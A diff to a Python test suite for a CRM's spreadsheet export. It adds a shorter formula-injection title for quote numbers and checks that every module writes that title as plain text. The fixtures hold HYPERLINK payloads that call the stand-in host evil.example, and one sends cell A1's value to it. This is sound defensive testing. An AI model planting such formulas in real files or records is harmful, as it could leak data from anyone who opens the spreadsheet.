@@ -36,6 +36,8 @@ from .conftest import Stack, running_stack
 
 POSTGRES_URL = os.environ.get("CRM_TEST_POSTGRES_URL", "")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+# A quote number holds at most 40 characters.
+SHORT_EVIL = '=HYPERLINK("http://evil.example","x")'
 CREATED = datetime(2026, 2, 10, 15, 0, tzinfo=UTC)
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
@@ -84,6 +86,8 @@ class Module:
     date_field: str = ""
     # An ICS event's summary from the record's title (contacts are titled by first and last name).
     summary: Callable[[str], str] = lambda title: title
+    # The first record's title: a formula, as an attacker would name a client.
+    formula: str = EVIL
 
 
 def _created(i: int) -> dict[str, Any]:
@@ -142,6 +146,7 @@ MODULES = [
             **_created(i),
         },
         money="total",
+        formula=SHORT_EVIL,
     ),
     Module(
         "products",
@@ -201,7 +206,7 @@ def records(stack: Stack) -> dict[str, Seeded]:
             seeded = Seeded()
             rows = []
             for i, owner in enumerate(owners[:3] if not m.owned else owners):
-                title = EVIL if i == 0 else f"{m.name} {i}"
+                title = m.formula if i == 0 else f"{m.name} {i}"
                 row = {"id": str(uuid.uuid4()), m.column: title, "version": 1, "event_time": CREATED, **m.extra(i)}
                 if m.owned:
                     row["owner_id"] = owner
@@ -302,7 +307,7 @@ def test_every_module_exports_a_workbook_of_text_never_formulas(
         shown = [[r[0], float(r[1]["amount"])] if m.money else [r[0]] for r in expected]
         assert _in_order(rows[1:], grouped) == _in_order(shown, grouped)
     if not grouped:
-        evil = [c for row in wb.worksheets[0].iter_rows(min_row=2, max_col=1) for c in row if c.value == EVIL]
+        evil = [c for row in wb.worksheets[0].iter_rows(min_row=2, max_col=1) for c in row if c.value == m.formula]
         assert [c.data_type for c in evil] == ["s"]
 
 
